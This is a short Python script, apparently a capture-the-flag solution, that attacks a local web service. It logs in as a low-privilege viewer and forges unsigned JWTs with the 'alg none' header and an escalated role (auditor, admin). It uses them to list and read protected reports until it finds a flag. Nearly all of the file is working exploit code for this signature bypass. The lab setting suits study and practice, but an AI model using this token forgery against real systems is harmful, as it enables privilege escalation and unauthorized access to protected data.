"""The verifier skips the signature when the header says alg "none": keep the claims of a real
token, change the role, drop the signature. The report's name comes from a 403 probe."""

import base64
import json
import re
import urllib.error
import urllib.request

BASE = "http://127.0.0.1:9203"


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def call(path: str, token: str = "", body: dict | None = None) -> dict:
    request = urllib.request.Request(
        BASE + path,
        data=json.dumps(body).encode() if body is not None else None,
        headers={"Authorization": f"Bearer {token}"},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return json.load(response)
    except urllib.error.HTTPError as error:
        return json.load(error)


token = call("/api/login", body={"user": "viewer", "password": "viewer"})["token"]
claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
for role in ("auditor", "admin", "auditors"):
    forged = ".".join(
        [b64(json.dumps({"alg": "none", "typ": "JWT"}).encode()),
         b64(json.dumps(claims | {"role": role}).encode()), ""]
    )  # fmt: skip
    for name in call("/api/reports", forged).get("reports", []):
        text = call(f"/api/reports/{name}", forged).get("report", "")
        found = re.search(r"flag\{[0-9a-f]{32}\}", text)
        if found:
            print(found.group(0))
            raise SystemExit
